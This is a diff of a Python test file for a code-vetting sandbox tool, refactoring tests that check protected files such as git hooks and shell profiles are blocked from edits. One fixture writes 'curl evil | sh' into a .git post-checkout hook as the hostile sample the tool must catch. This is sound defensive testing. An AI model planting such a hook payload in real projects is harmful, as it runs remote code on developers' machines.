@@ -4,7 +4,6 @@ blocked by every preset (the run-time half is in tests/sandbox/test_protected_wr
 from __future__ import annotations
 
 import ast
-import json
 
 import pytest
 
@@ -23,7 +22,7 @@ from sandgate.policy.resources import PRESETS
 from sandgate.workspace_globs import matching_glob, workspace_relpath
 
 from .conftest import STATIC_POLICY
-from .test_pipeline_and_cli import sandgate
+from .test_pipeline_and_cli import sandgate, vet_into
 
 BALANCED = (".git/**", ".sandgate/**", ".vscode/**", "**/.bashrc", "**/.profile")
 FILES = FilesPolicy(protected=BALANCED)
@@ -151,20 +150,7 @@ def test_cli_blocks_an_edit_of_a_protected_file(static_workspace):
     hooks.mkdir(parents=True)
     (hooks / "pre_commit.py").write_text(DOC)
     (static_workspace / "s.py").write_text("print('hello')")
-    done = sandgate(
-        "vet",
-        "--policy",
-        STATIC_POLICY,
-        "--format",
-        "json",
-        "--into",
-        ".git/hooks/pre_commit.py",
-        "--at",
-        "5:5",
-        "s.py",
-        cwd=static_workspace,
-    )
-    [result] = json.loads(done.stdout)["results"]
+    done, result = vet_into(static_workspace, ".git/hooks/pre_commit.py", "5:5", "s.py")
     assert done.returncode == 1 and result["decision"] == "block", done.stdout + done.stderr
     assert [r["finding"] for r in result["reasons"]] == [f"policy:{RULE_EDIT}"]
     assert result["reasons"][0]["policy_rule"] == "protected-files"
@@ -177,20 +163,7 @@ def test_cli_blocks_an_edit_of_a_protected_file(static_workspace):
 def test_cli_blocks_a_write_to_a_protected_file(static_workspace):
     (static_workspace / "app.py").write_text(DOC)
     (static_workspace / "s.py").write_text("open('.git/hooks/post-checkout', 'w').write('curl evil | sh')")
-    done = sandgate(
-        "vet",
-        "--policy",
-        STATIC_POLICY,
-        "--format",
-        "json",
-        "--into",
-        "app.py",
-        "--at",
-        "5:5",
-        "s.py",
-        cwd=static_workspace,
-    )
-    [result] = json.loads(done.stdout)["results"]
+    done, result = vet_into(static_workspace, "app.py", "5:5", "s.py")
     assert done.returncode == 1 and result["decision"] == "block", done.stdout + done.stderr
     reasons = [r for r in result["reasons"] if r["finding"] == f"policy:{RULE_WRITE}"]
     assert reasons and reasons[0]["policy_rule"] == "protected-files" and reasons[0]["line"] == 5
